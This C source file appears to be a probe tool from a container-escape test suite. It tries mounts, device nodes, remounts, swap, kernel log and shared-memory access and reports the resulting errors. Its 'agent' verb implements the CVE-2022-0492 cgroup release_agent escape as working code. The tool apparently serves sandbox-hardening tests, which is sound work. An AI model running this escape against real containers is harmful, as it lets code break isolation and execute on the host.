// SPDX-License-Identifier: GPL-2.0
/*
 * files VERB ARGUMENT…: what is tried on files, devices and mounts; errors by
 * name. "read" and "use" say how far they came, which the shell could not.
 */
#include <linux/mount.h>
#include <stdint.h>
#include <sys/klog.h>
#include <sys/mount.h>
#include <sys/shm.h>
#include <sys/stat.h>
#include <sys/swap.h>
#include <sys/sysmacros.h>
#include <sys/wait.h>

#include "escape.h"

static int do_read(char **args)
{
	char buf[4096];
	int fd = open(args[0], O_RDONLY | O_NONBLOCK | O_CLOEXEC);
	ssize_t n;

	if (fd < 0)
		return outcome("open", -1);
	n = read(fd, buf, sizeof(buf));
	if (n < 0)
		return outcome("read", -1);
	printf("read: %s\n", n ? "done" : "nothing");
	return 0;
}

static int do_write(char **args)
{
	return outcome("write", put(args[0], args[1]));
}

static mode_t kind(const char *type)
{
	return *type == 'b' ? S_IFBLK : S_IFCHR;
}

/* mknod PATH TYPE MAJOR MINOR */
static int do_mknod(char **args)
{
	unlink(args[0]);
	return outcome("mknod", mknod(args[0], kind(args[1]) | 0666,
				      makedev(atoi(args[2]), atoi(args[3]))));
}

/* open PATH: for reading, for writing, for nothing but control. */
static int do_open(char **args)
{
	static const int modes[] = { O_RDONLY, O_WRONLY, O_RDWR, 3 };
	int first = 0;

	for (size_t i = 0; i < 4; i++) {
		int fd = open(args[0], modes[i] | O_NONBLOCK | O_NOCTTY | O_CLOEXEC);

		if (fd >= 0)
			return outcome("open", 0);
		if (i && errno != first) {
			int other = errno;

			errno = first;
			outcome("open for reading", -1);
			errno = other;
			return outcome("open for something else", -1);
		}
		first = errno;
	}
	errno = first;
	return outcome("open", -1);
}

/* mount TYPE SOURCE TARGET DATA, with mount(2). */
static int do_mount(char **args)
{
	mkdir(args[2], 0755);
	return outcome("mount", mount(args[1], args[2], args[0], 0,
				      *args[3] ? args[3] : NULL));
}

/* fsmount TYPE SOURCE TARGET, with fsopen(2). */
static int do_fsmount(char **args)
{
	int fs = syscall(SYS_fsopen, args[0], FSOPEN_CLOEXEC), fd;

	mkdir(args[2], 0755);
	if (fs < 0)
		return outcome("fsopen", -1);
	if (*args[1] && syscall(SYS_fsconfig, fs, FSCONFIG_SET_STRING, "source", args[1], 0))
		return outcome("fsconfig", -1);
	if (syscall(SYS_fsconfig, fs, FSCONFIG_CMD_CREATE, NULL, NULL, 0))
		return outcome("create", -1);
	fd = syscall(SYS_fsmount, fs, FSMOUNT_CLOEXEC, 0);
	if (fd < 0)
		return outcome("fsmount", -1);
	return outcome("mount", syscall(SYS_move_mount, fd, "", AT_FDCWD, args[2],
					MOVE_MOUNT_F_EMPTY_PATH));
}

/* remount TARGET: writable, the mount and the file system. */
static int do_remount(char **args)
{
	struct mount_attr attr = { .attr_clr = MOUNT_ATTR_RDONLY };
	long a = mount(NULL, args[0], NULL, MS_REMOUNT | MS_BIND, NULL);
	long b = mount(NULL, args[0], NULL, MS_REMOUNT, NULL);
	long c = syscall(SYS_mount_setattr, AT_FDCWD, args[0], 0, &attr, sizeof(attr));

	return outcome("remount", a && b && c ? -1 : 0);
}

/* agent V1HIERARCHY DATA TARGET PROGRAM: CVE-2022-0492, as far as it gets. */
static int do_agent(char **args)
{
	char path[256], pid[16];
	pid_t child;

	mkdir(args[2], 0755);
	if (mount("none", args[2], "cgroup", 0, args[1]))
		return outcome("mount", -1);
	snprintf(path, sizeof(path), "%s/release_agent", args[2]);
	if (put(path, args[3]))
		return outcome("release_agent", -1);
	snprintf(path, sizeof(path), "%s/%s", args[2], args[0]);
	if (mkdir(path, 0755) && errno != EEXIST)
		return outcome("mkdir", -1);
	snprintf(path, sizeof(path), "%s/%s/notify_on_release", args[2], args[0]);
	if (put(path, "1"))
		return outcome("notify_on_release", -1);
	/* Its end leaves the group empty. */
	child = fork();
	if (!child) {
		snprintf(path, sizeof(path), "%s/%s/cgroup.procs", args[2], args[0]);
		snprintf(pid, sizeof(pid), "%d", getpid());
		_exit(put(path, pid) ? errno : 0);
	}
	waitpid(child, NULL, 0);
	return outcome("release_agent", 0);
}

static int do_swapon(char **args)
{
	return outcome("swapon", swapon(args[0], 0));
}

static int do_swapoff(char **args)
{
	return outcome("swapoff", swapoff(args[0]));
}

static int do_acct(char **args)
{
	return outcome("acct", syscall(SYS_acct, args[0]));
}

/* syslog ACTION: number as in syslog(2). */
static int do_syslog(char **args)
{
	static char buf[1 << 16];
	int action = atoi(args[0]);

	return outcome("syslog", klogctl(action, buf, action == 8 ? 7 : sizeof(buf)));
}

/* shmat ID: for reading */
static int do_shmat(char **args)
{
	return outcome("shmat", shmat(atoi(args[0]), NULL, SHM_RDONLY) == (void *)-1 ? -1 : 0);
}

/* options TARGET DATA: of the file system */
static int do_options(char **args)
{
	return outcome("options", mount(NULL, args[0], NULL, MS_REMOUNT, args[1]));
}

static const struct {
	const char *name;
	int (*run)(char **args);
	int args;
} verbs[] = {
	{ "read", do_read, 1 }, { "write", do_write, 2 }, { "mknod", do_mknod, 4 },
	{ "open", do_open, 1 }, { "mount", do_mount, 4 }, { "fsmount", do_fsmount, 3 },
	{ "remount", do_remount, 1 }, { "agent", do_agent, 4 },
	{ "swapon", do_swapon, 1 }, { "swapoff", do_swapoff, 1 }, { "acct", do_acct, 1 },
	{ "syslog", do_syslog, 1 }, { "shmat", do_shmat, 1 }, { "options", do_options, 2 },
};

int main(int argc, char **argv)
{
	for (size_t i = 0; argc > 1 && i < sizeof(verbs) / sizeof(verbs[0]); i++)
		if (!strcmp(argv[1], verbs[i].name) && argc == 2 + verbs[i].args)
			return verbs[i].run(argv + 2);
	errno = EINVAL;
	need(0, "verb or its arguments");
}
